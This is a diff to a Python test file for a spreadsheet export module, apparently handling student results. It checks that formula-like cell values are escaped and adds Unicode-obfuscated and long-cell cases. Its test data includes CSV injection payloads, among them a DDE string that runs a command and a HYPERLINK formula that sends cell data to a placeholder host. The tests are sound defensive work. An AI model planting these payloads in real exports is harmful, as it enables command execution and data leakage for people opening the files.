@@ -1,9 +1,11 @@
 """Exports: no cell of a table is a formula, and every student who is left out is named."""
 
 import json
+import re
 import stat
 import subprocess
 import sys
+import time
 import zipfile
 from pathlib import Path
 
@@ -19,7 +21,8 @@ SCHEMA = Path(__file__).parent / "gradescope_results.schema.json"
 FORMULAS = [
     "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1x",
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://afar.invalid?"&A1,"x")', "a;=1+1", "a;  @b", "a\n=1",
-    "a,=1+1", "-2+3+cmd|' /C calc'!D2", "=@A1", "+491234x",
+    "a,=1+1", "-2+3+cmd|' /C calc'!D2", "=@A1", "+491234x", "\u200b=1", "\ufeff@a", "a\u2028=1",
+    "\x00=1", "\u200f\u00ad+1x", "\ufe66cmd", "a\x0b=1", "; \ufeff=1",
 ]  # fmt: skip
 # ---------- tables ----------
 
@@ -27,6 +30,7 @@ FORMULAS = [
 @pytest.mark.parametrize("text", FORMULAS)
 def test_a_formula_becomes_text(text):
     assert not acts(escape_formula(text))
+    assert not acts(re.sub(r"[\x00\u00ad\u200b\u200f\ufeff]", "", escape_formula(text)))
     assert escape_formula(text) != text
     assert escape_formula(text).replace("'", "") == text.replace("'", "")
 
@@ -34,6 +38,13 @@ def test_a_formula_becomes_text(text):
 @pytest.mark.parametrize("text", ["", "Ada", "a=b", "12", "-3", "+4.5", "0,5", "x-y", "a, -3"])
 def test_other_text_is_unchanged(text):
     assert escape_formula(text) == text
+
+
+@pytest.mark.parametrize("text", ["\n" * 200_000, "; \u200b" * 60_000, "\u200b" * 200_000])
+def test_a_long_cell_costs_no_more_than_its_length(text):
+    began = time.process_time()
+    escape_formula(text + "x")
+    assert time.process_time() - began < 1
 
 
 @pytest.mark.parametrize(
@@ -51,6 +62,15 @@ def test_a_table_round_trips(tmp_path):
         assert [table.header, *table.rows] == rows
         assert (table.separator, table.mark) == (separator, True)
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
+
+
+def test_a_cell_may_be_as_long_as_a_text_that_was_handed_in_online(tmp_path):
+    path = tmp_path / "t.csv"
+    for rows in ([["a", "b"], ["1", "x" * 150_000]], [["a", "x" * 150_000], ["1", "2"]]):
+        path.write_text("\n".join(",".join(row) for row in rows))
+        assert read(path).rows == rows[1:]
+    path.write_bytes(b"a;b\r1;2\r")
+    assert (read(path).separator, read(path).rows) == (";", [["1", "2"]])
 
 
 @pytest.mark.parametrize(
